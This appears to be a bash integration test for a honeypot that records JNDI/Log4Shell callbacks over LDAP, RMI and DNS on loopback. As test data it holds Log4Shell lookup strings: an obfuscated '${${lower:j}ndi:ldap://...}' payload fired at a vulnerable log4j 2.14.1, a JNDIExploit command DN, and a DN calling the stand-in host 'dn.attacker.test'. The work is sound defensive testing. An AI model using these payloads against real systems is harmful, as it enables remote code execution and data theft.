#!/usr/bin/env bash
# honeypot_jndi.sh -- the callback listeners against real clients: a JVM doing
# new InitialContext().lookup() over ldap:// and rmi:// (each recorded with
# the full DN or name, the JVM getting a NamingException, never an object),
# a real log4j-core 2.14.1 victim (when the corpus is present), ldapsearch,
# DNS queries for the canary zone, and malformed input on each protocol.
source "$(dirname "$0")/honeypot/common.sh"
command -v javac >/dev/null && command -v java >/dev/null || { echo "SKIP: no JDK"; exit 77; }

read -r PL PR PD < <(freeports 3)
cat >"$T/hp.conf" <<CONF
node jndi-test
log_file $T/events.jsonl
log_stdout yes
dedup_window 0
header_timeout 2s
[listener ldap]
protocol ldap
listen 127.0.0.1:$PL
[listener rmi]
protocol rmi
listen 127.0.0.1:$PR
[listener canary]
protocol dns
listen 127.0.0.1:$PD
zone canary.test
answer_a self
CONF
hp_start "$T/hp.conf"
EV=$T/events.jsonl
javac -d "$T" "$HP_DIR/JndiClient.java"

# ---- a JVM looks up ldap:// -----------------------------------------------
DN='Basic/Command/Base64/aWQ='
out=$(java -cp "$T" JndiClient "ldap://127.0.0.1:$PL/$DN") || fail "JVM ldap lookup: $out"
case "$out" in NAMING_EXCEPTION*) ;; *) fail "JVM should get a NamingException, got: $out" ;; esac
wait_events "$EV" '"event":"ldap.search"'
got=$(ev_query "$EV" "e['ldap']['dn'] if e['event'] == 'ldap.search' else None")
[ "$got" = "$DN" ] || fail "LDAP DN recorded as '$got', want '$DN'"
ev_query "$EV" "e['ldap']['version'] if e['event'] == 'ldap.bind' else None" | grep -qx 3 ||
    fail "LDAPv3 bind not recorded"
url=$(ev_query "$EV" "e['ldap']['url'] if e['event'] == 'ldap.search' else None")
[ "$url" = "ldap://127.0.0.1:$PL/$DN" ] || fail "callback url: $url"
cmd=$(ev_query "$EV" "[f.get('command') for f in e.get('findings', []) if f['where'] == 'callback-url'] if e['event'] == 'ldap.search' else None")
[ "$cmd" = '["id"]' ] || fail "JNDIExploit command of the DN should decode to id, got $cmd"
ok "JVM ldap lookup: $out; DN '$got' recorded, command 'id' decoded"

# ---- a JVM looks up rmi:// ------------------------------------------------------
NAME='Exploit-x9_${env:USER}'
out=$(java -cp "$T" JndiClient "rmi://127.0.0.1:$PR/$NAME") || fail "JVM rmi lookup: $out"
case "$out" in NAMING_EXCEPTION*) ;; *) fail "JVM should get a NamingException, got: $out" ;; esac
wait_events "$EV" '"event":"rmi.call"'
got=$(ev_query "$EV" "e['rmi']['name'] if e['event'] == 'rmi.call' else None")
[ "$got" = "$NAME" ] || fail "RMI name recorded as '$got', want '$NAME'"
op=$(ev_query "$EV" "[e['rmi']['protocol'], e['rmi']['objnum'], e['rmi']['op']] if e['event'] == 'rmi.call' else None")
[ "$op" = '["stream", 0, 2]' ] || fail "JRMP handshake/call fields: $op"
ok "JVM rmi lookup: $out; name '$got' recorded ($op = stream, registry, lookup)"

# ---- ldapsearch ------------------------------------------------------------------------
if command -v ldapsearch >/dev/null; then
    st=0
    ldapsearch -x -H "ldap://127.0.0.1:$PL" -D "cn=admin,dc=corp" -w secret \
        -b 'cn=${jndi:ldap://dn.attacker.test/x},dc=corp' '(objectClass=*)' >"$T/ls.out" 2>&1 || st=$?
    [ "$st" -eq 32 ] || fail "ldapsearch should end with noSuchObject (32), got $st: $(cat "$T/ls.out")"
    wait_events "$EV" '"dn":"cn=admin,dc=corp"'
    ev_query "$EV" "[f['callback'] for f in e.get('findings', []) if f['where'] == 'ldap:dn']" |
        grep -q 'ldap://dn.attacker.test/x' || fail "payload inside the DN not detected"
    ok "ldapsearch: bind DN recorded, exit 32, payload in the DN detected"
fi

# ---- a real log4j 2.14.1 victim --------------------------------------------------------
JARS="${DEFUSE_CORPUS:-}/jars/mergebase-log4j-samples"
if [ -f "$JARS/true-hits/log4j-core-2.14.1.jar" ] && [ -f "$JARS/false-hits/log4j-api-2.14.1.jar" ]; then
    CP="$JARS/false-hits/log4j-api-2.14.1.jar:$JARS/true-hits/log4j-core-2.14.1.jar"
    javac -cp "$CP" -d "$T" "$HP_DIR/Log4jVictim.java"
    java -cp "$CP:$T" Log4jVictim "\${\${lower:j}ndi:ldap://127.0.0.1:$PL/Victim/\${java:version}}" \
        >"$T/victim.out" 2>&1 || true
    wait_events "$EV" '"dn":"Victim/' 1 15
    dn=$(ev_query "$EV" "e['ldap']['dn'] if e['event'] == 'ldap.search' and e['ldap']['dn'].startswith('Victim/') else None")
    dn=${dn%%$'\n'*}
    case "$dn" in *'${'*|Victim/) fail "victim DN not substituted: $dn" ;; esac
    ok "log4j-core 2.14.1 victim called back with DN '$dn' (its exfiltrated Java version)"
else
    echo "note: corpus jars absent, real log4j victim skipped"
fi

# ---- DNS canary zone -------------------------------------------------------------------------
out=$($PEERS dns "$PD" "abc123.exfil.canary.test")
[ "$out" = "rcode=0 a=127.0.0.1" ] || fail "in-zone A query: $out"
out=$($PEERS dns "$PD" "www.example.org")
[ "$out" = "rcode=5 a=" ] || fail "out-of-zone query should be REFUSED: $out"
out=$($PEERS dns "$PD" "txt.canary.test" 16)
[ "$out" = "rcode=0 a=" ] || fail "in-zone TXT query: $out"
wait_events "$EV" '"event":"dns.query"' 3
ev_query "$EV" "e['dns']['name'] if e['event'] == 'dns.query' and e['dns']['in_zone'] else None" |
    grep -qx "abc123.exfil.canary.test" || fail "DNS name not recorded"
ok "DNS: in-zone A answered with the honeypot address, others refused, names recorded"
# jndi:dns:// makes the JDK query the named server directly (TXT)
java -cp "$T" JndiClient "dns://127.0.0.1:$PD/AKIAEXAMPLE-key.canary.test" >/dev/null || true
wait_events "$EV" '"name":"AKIAEXAMPLE-key.canary.test","qtype":16'
ok "JVM dns:// lookup recorded (TXT query with the exfiltrated label)"

# ---- malformed input on every protocol; the daemon keeps serving -------------------------
bad_ldap=("ffffffff" "3084ffffffff" "300502010160" "3003020101" "30050201017f00" "300c020101600702010304008000ff")
for h in "${bad_ldap[@]}"; do $PEERS send "$PL" "$h" 0.5 >/dev/null || true; done
bad_rmi=("4a524d49" "4a524d4900024b0009313237" "4a524d4900024c50aced0005ff" "4a524d4900024d" "4a524d49000299" "00" "4a524d4900024c50")
for h in "${bad_rmi[@]}"; do $PEERS send "$PR" "$h" 0.5 >/dev/null || true; done
python3 - "$PD" <<'PY'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for pkt in [b"", b"\x00" * 5, b"\x12\x34\x01\x00\x00\x01" + b"\x00" * 6 + b"\xc0\x0c\x00\x01\x00\x01",
            b"\x12\x34\x81\x00\x00\x01" + b"\x00" * 6 + b"\x00\x00\x01\x00\x01", bytes(range(256)) * 4]:
    s.sendto(pkt, ("127.0.0.1", int(sys.argv[1])))
PY
kill -0 "$HP_PID" || fail "honeypot died on malformed input"
out=$(java -cp "$T" JndiClient "ldap://127.0.0.1:$PL/after/malformed") || fail "JVM lookup after malformed input: $out"
wait_events "$EV" '"dn":"after/malformed"'
out=$($PEERS dns "$PD" "after.canary.test")
[ "$out" = "rcode=0 a=127.0.0.1" ] || fail "DNS after malformed input: $out"
n=$(grep -cE '"event":"(ldap|rmi)\.bad_message"|"event":"dns\.bad_packet"' "$EV")
[ "$n" -ge 5 ] || fail "malformed input should be recorded as events, found $n"
ok "malformed LDAP/RMI/DNS input recorded ($n events), daemon still serving"

if grep -qF '${' "$EV"; then fail "a live \${ in the JSON log"; fi

# a connection still open at SIGTERM gets its event (reason shutdown), and
# stdout carried the same events as the file
python3 - "$PL" "$T/held" <<'PY' &
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(bytes.fromhex("300c0201"))  # the start of a bind, never finished
open(sys.argv[2], "w").write("x")
time.sleep(5)
PY
BG_PIDS+=($!)
wait_file "$T/held"
sleep 0.2
hp_stop
grep -q '"reason":"shutdown"' "$EV" || fail "no event for the connection open at shutdown"
cmp -s "$EV" "$T/hp.out" || fail "stdout and log_file differ"
ok "SIGTERM: open connection reported (shutdown); stdout = log file ($(grep -c . "$EV") events)"
echo "PASS"
